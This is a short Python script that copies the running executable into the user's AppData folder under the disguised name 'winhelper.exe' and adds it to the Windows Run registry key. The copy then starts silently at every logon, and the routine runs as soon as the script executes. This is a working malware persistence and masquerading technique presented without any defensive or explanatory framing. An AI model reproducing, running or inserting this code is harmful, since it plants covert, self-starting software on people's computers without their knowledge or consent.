import os
import shutil
import sys
import winreg


def install():
    home = os.path.join(os.getenv("APPDATA"), "WinHelper")
    os.makedirs(home, exist_ok=True)
    dest = os.path.join(home, "winhelper.exe")
    shutil.copyfile(sys.executable, dest)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "WinHelper", 0, winreg.REG_SZ, dest)
    winreg.CloseKey(key)


install()
